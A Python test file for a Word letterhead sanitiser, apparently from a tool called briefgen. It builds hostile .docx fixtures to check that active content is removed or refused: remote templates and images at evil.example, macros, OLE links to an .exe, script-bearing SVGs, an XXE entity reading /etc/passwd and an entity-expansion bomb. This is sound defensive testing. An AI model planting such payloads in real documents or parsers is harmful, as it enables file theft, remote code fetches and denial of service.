"""Letterheads with all that could run, fetch or tell: it goes, words and harmless fields stay."""

from collections.abc import Callable, Iterator

import pytest

from briefgen.word_files import BadWordFileError, open_word
from briefgen.zips import read_zip, write_zip
from tests.export.word.letterheads import LETTERHEADS, p, part
from tests.tally import Tally
from tests.word_files.active import active
from tests.word_files.offices import cleaned, codes, exported, office, shown


def related(word: str, target: str, content: bytes = b"x", kind: str = "") -> bytes:
    """A letterhead whose text has this relation, to a part or to elsewhere."""
    more = {} if ":" in target else {f"word/{target}": (kind, content)}
    return office(f"{p('old words')}", ("rId9", word, target), **more)


def pictured(inside: str) -> bytes:
    """A letterhead with a picture in SVG."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    return related("image", "media/e.svg", f"{head}{inside}</svg>".encode(), "image/svg+xml")


def with_member(name: str, change: Callable[[bytes], bytes]) -> bytes:
    members = read_zip(office(p("old words")))
    members[name] = change(members[name])
    return write_zip(members)


def settled_by(inside: str) -> bytes:
    return with_member("word/settings.xml", lambda _: part("settings", inside))


def bodied(content: str) -> bytes:
    return office(p("old words") + content)


OLD = b"old words"
BIN, XML = "application/octet-stream", "application/xml"
PARTS = {
    "an attached template": related("attachedTemplate", "http://evil.example/t.dotm"),
    "one in odd letters": related("AttachedTemplate", "http://evil.example/t.dotm"),
    "one inside": related("attachedTemplate", "t.dotm", kind=BIN),
    "macros": related("vbaProject", "vbaProject.bin", kind=BIN),
    "macros in odd letters": related("VBAPROJECT", "vbaProject.bin", kind=BIN),
    "an object": related("oleObject", "embeddings/oleObject1.bin", kind=BIN),
    "a linked object": related("oleObject", "file:///c:/x.exe"),
    "an object without a file": bodied(
        '<w:p><w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r></w:p>'),
    "a control": related("control", "activeX/activeX1.xml", b"<x/>", XML),
    "a control without a file": bodied('<w:p><w:r><w:control w:name="x"/></w:r></w:p>'),
    "a file to insert": related("aFChunk", "afchunk.htm", b"<script/>", "text/html"),
    "an add-in": related("ui/extensibility", "customUI.xml", b"<customUI/>", XML),
    "something unknown": related("inventedLater", "later.bin", kind=BIN),
    "a picture elsewhere": related("image", "http://evil.example/p.png"),
    "a frame elsewhere": related("frame", "http://evil.example/f.htm"),
    "a link to a file": related("hyperlink", "file:///etc/passwd"),
    "a link that runs": related("hyperlink", "javascript:x"),
    "a picture that runs": pictured("<script>x()</script>"),
    "a picture that calls": pictured('<g onload="x()"/>'),
    "a picture that fetches": pictured('<image xlink:href="http://evil.example/x"/>'),
    "a style that fetches": pictured("<style>@import 'http://evil.example'</style>"),
    "a mail merge": settled_by('<w:mailMerge><w:query w:val="q"/></w:mailMerge>'),
    "a stylesheet": settled_by('<w:saveThroughXslt w:solutionID="x"/><w:linkStyles/>'),
    "variables": settled_by('<w:docVars><w:docVar w:name="a" w:val="b"/></w:docVars>'),
    "an instruction": with_member("word/document.xml", lambda each: each.replace(
        b"<w:body>", b'<?xml-stylesheet href="http://evil.example/x.xsl"?><w:body>')),
    "an instruction on top": with_member("word/document.xml", lambda each: each.replace(
        b"<w:document", b'<?xml-stylesheet href="http://evil.example/x.xsl"?><w:document', 1)),
    "a comment": with_member("word/document.xml", lambda each: each.replace(
        b"<w:body>", b"<w:body><!-- <x> -->")),
    "another encoding": with_member("word/document.xml", lambda each: each.decode().replace(
        'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
}  # fmt: skip
REFUSED = {
    "a document type": with_member("word/settings.xml", lambda each: each.replace(
        b"<w:settings", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:settings', 1)),
    "a growing entity": with_member("word/document.xml", lambda each: each.replace(
        b"<w:document", b'<!DOCTYPE x [<!ENTITY a "%s"><!ENTITY b "%s">]><w:document' % (
            b"a" * 99, b"&a;" * 99), 1).replace(OLD, b"&b;" * 99)),
    "the strict dialect in a part": with_member("word/settings.xml", lambda each: each.replace(
        b"http://schemas.openxmlformats.org/wordprocessingml/2006/main",
        b"http://purl.oclc.org/ooxml/wordprocessingml/main")),
    "a text elsewhere": with_member("_rels/.rels", lambda each: each.replace(
        b'Target="word/document.xml"', b'Target="http://evil.example/d" TargetMode="External"')),
    "a million levels": with_member("word/document.xml", lambda each: each.replace(
        b"<w:body>", b"<w:body>" + b"<w:sdt>" * 5_000)),
}  # fmt: skip


def test_nothing_else_that_acts_goes_through(tally: Tally) -> None:
    wrong = []
    for kind, data in PARTS.items():
        result, _ = cleaned(data)
        assert list(active(data)), kind
        assert shown(result) == 1, kind
        wrong += [kind] if list(active(result)) else []
    tally("S4 parts that run or fetch", tried=len(PARTS), wrong=len(wrong))
    assert wrong == []


@pytest.mark.parametrize(
    "kind", ["macros", "a picture that fetches", "an instruction", "one inside"]
)
def test_no_export_has_it(kind: str) -> None:
    assert list(active(exported(PARTS[kind]))) == []


@pytest.mark.parametrize("kind", REFUSED)
def test_what_is_no_word_file_is_refused_in_a_sentence(kind: str) -> None:
    with pytest.raises(BadWordFileError) as refused:
        open_word(REFUSED[kind])
    assert str(refused.value).endswith(("Word", ".docx", "(.docx)"))


def harmless() -> Iterator[tuple[str, bytes]]:
    yield from ((name, make()) for name, make in LETTERHEADS.items())
    yield "a drawing", pictured('<defs><g id="a"/></defs><use xlink:href="#a" fill="url(#b)"/>')
    yield "a web link", related("hyperlink", "https://example.org/a")
    yield "a mail link", related("hyperlink", "mailto:a@example.org")


def test_no_harmless_letterhead_is_refused_or_loses_a_field(tally: Tally) -> None:
    wrong = []
    offices = dict(harmless())
    for name, data in offices.items():
        result, left_out = cleaned(data)
        lost = [each for each in left_out if "template" not in each]
        if lost or codes(result) != codes(data):
            wrong.append(name)
    tally("S5 harmless letterheads", tried=len(offices), refused_wrongly=len(wrong))
    assert wrong == []
